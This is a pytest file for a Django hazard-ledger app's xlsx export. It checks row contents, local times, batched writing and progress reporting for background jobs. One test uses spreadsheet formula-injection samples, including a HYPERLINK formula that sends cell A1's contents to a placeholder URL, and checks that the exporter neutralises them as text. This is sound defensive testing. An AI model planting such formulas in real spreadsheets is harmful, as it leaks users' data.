"""The streamed ledger export (issue #18) writes, cell by cell, what the ledger held before it was made fast: each
hazard read as a model instance, its labels, local times and names as a user reads them; and a ledger export
over the threshold runs as a job whose page shows its progress and whose file holds every row."""

import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from anquan.core.xlsx import Column, export_workbook, ledger_sheet
from anquan.hazards import excel
from anquan.hazards.choices import Level, Source, Status
from anquan.hazards.filters import with_listing
from anquan.hazards.models import Hazard, Listing
from anquan.jobs import exports, runner, workflow
from anquan.jobs.choices import JobKind, JobStatus
from anquan.jobs.models import Job

from ..conftest import login
from .test_ledger import ledger  # noqa: F401 (the fixture)

pytestmark = pytest.mark.django_db


def expected_row(n: int, h: Hazard) -> list:
    """A hazard as the ledger showed it before the export was streamed (one instance, its relations)."""

    def local(value):
        return timezone.localtime(value).strftime("%Y-%m-%d %H:%M") if value else None

    return [
        n,
        h.number or None,
        h.enterprise.name if h.enterprise_id else h.address,
        h.region.full_name,
        h.industry.name if h.industry_id else None,
        h.description,
        str(Level(h.level).label),
        str(Source(h.source).label),
        local(h.found_at),
        h.measures or None,
        h.responsible_party or None,
        int(h.funds_yuan) if h.funds_yuan is not None else None,
        h.deadline.isoformat() if h.deadline else None,
        local(h.accepted_at),
        (h.accepted_by.get_full_name() or h.accepted_by.username) if h.accepted_by_id else None,
        str(Status(h.status).label),
        "是" if h.overdue else "否",
        "是" if h.is_listed else "否",
    ]


def data_rows(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows(min_row=4, values_only=True)]


def test_the_ledger_export_holds_each_hazard_cell_by_cell(world, ledger):  # noqa: F811
    listed = ledger["major_t1"]
    Listing.objects.create(  # test data: the listing flow itself is tested in test_workflow.py
        hazard=listed,
        level="county",
        authority="濂溪区安委会",
        document_no="濂安督〔2026〕1号",
        deadline="2026-12-31",
        listed_at=timezone.now(),
    )
    Hazard.objects.filter(pk=ledger["closed_t2"].pk).update(overdue=True)
    # found late in the evening UTC: the next day in Beijing time (the database formats it on PostgreSQL)
    import datetime

    late = datetime.datetime(2026, 11, 30, 16, 30, 59, tzinfo=datetime.UTC)
    Hazard.objects.filter(pk=listed.pk).update(found_at=late)
    response = login(world.users["county_office"]).get("/hazards/export.xlsx")
    assert response.status_code == 200
    from anquan.core.scope import restrict

    shown = with_listing(restrict(Hazard, world.users["county_office"]))
    expected = [expected_row(n, h) for n, h in enumerate(shown, start=1)]
    assert len(expected) == 4 and data_rows(response.content) == expected
    by_description = {row[5]: row for row in expected}
    assert by_description[listed.description][17] == "是" and by_description["仓库超量储存"][16] == "是"
    assert by_description[listed.description][8] == "2026-12-01 00:30"
    assert by_description["仓库超量储存"][14] == "emergency_supervisor"  # the accepting user


def styled_cells(content: bytes) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [
        (c.coordinate, c.value, c.data_type, c.quotePrefix, c.alignment.wrap_text, c.alignment.vertical)
        for row in sheet.iter_rows()
        for c in row
    ]


def test_rows_written_in_batches_are_the_cells_openpyxl_writes():
    """Text that looks like a formula stays text with the quote prefix, characters a workbook cannot hold
    are dropped, markup and carriage returns survive, numbers stay numbers, each column keeps its wrapping;
    a row with a date in it goes through openpyxl in its place."""
    import datetime

    rows = [
        [1, '=HYPERLINK("http://x?"&A1,"点击")', "a&b<c>d", "  两边有空格 ", "第一行\r第二行", None],
        [2, "-5", "@SUM(A1)", "\t缩进", "含\x0b垂直制表\x01符", 3000.5],
        [3, "", "甲" * 40_000, "+86", "正常", 10**17],
        [4, "日期", "2026-12-01", "x", "y", datetime.date(2026, 12, 1)],
        [5, "后面", "仍然", "分批", "写入", float("nan")],
    ]

    def workbook(batched: bool) -> bytes:
        wb = export_workbook()
        columns = [Column(str(i), wrap=i % 2 == 0) for i in range(6)]
        sheet = ledger_sheet(wb, "表", owner="濂溪区", title="测试", columns=columns)
        if not batched:
            sheet._renderer = None  # every row through openpyxl's cells, as before issue #18
        for row in rows * 3:
            sheet.append(row)
        sheet.close()
        out = io.BytesIO()
        wb.save(out)
        return out.getvalue()

    batched, plain = styled_cells(workbook(True)), styled_cells(workbook(False))
    assert batched == plain
    cells = {coordinate: rest for coordinate, *rest in batched}
    assert cells["B4"][:3] == ['=HYPERLINK("http://x?"&A1,"点击")', "s", True]
    assert cells["E5"][0] == "含\n垂直制表符" and cells["E4"][0] == "第一行\r第二行"
    assert len(cells["C6"][0]) == 32_767 and cells["F5"][:2] == [3000.5, "n"]
    assert cells["F7"][0] == datetime.datetime(2026, 12, 1)
    assert cells["A18"][0] == 5 and len(batched) == 6 * (3 + 15)  # title, date, header and 15 rows


def test_a_ledger_export_over_the_threshold_is_a_job_showing_its_progress(
    world,
    ledger,  # noqa: F811
    settings,
    monkeypatch,
):
    settings.EXPORT_BACKGROUND_ROWS = 2
    monkeypatch.setattr(exports, "STEP_ROWS", 2)
    county = world.users["county_office"]
    client = login(county)
    response = client.get("/hazards/export.xlsx")
    job = Job.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/jobs/{job.pk}/"
    assert job.kind == JobKind.HAZARD_EXPORT and job.status == JobStatus.QUEUED

    pages = []

    class Watched(runner.Progress):  # what the job's page says each time the handler reports
        def step(self, processed: int) -> None:
            super().step(processed)
            pages.append(client.get(f"/jobs/{job.pk}/progress").content.decode())

    assert workflow.start(job, worker=runner.worker_id())
    excel.run_export(job, Watched(job))
    assert ["2 / 4 行" in pages[0], "4 / 4 行" in pages[1]] == [True, True], pages
    assert all('data-status="running"' in page and "<progress" in page for page in pages)
    job.refresh_from_db()
    assert job.status == JobStatus.DONE and job.total_rows == 4 and job.processed == 4
    download = client.get(f"/jobs/{job.pk}/download")
    content = b"".join(download.streaming_content) if download.streaming else download.content
    assert len(data_rows(content)) == 4
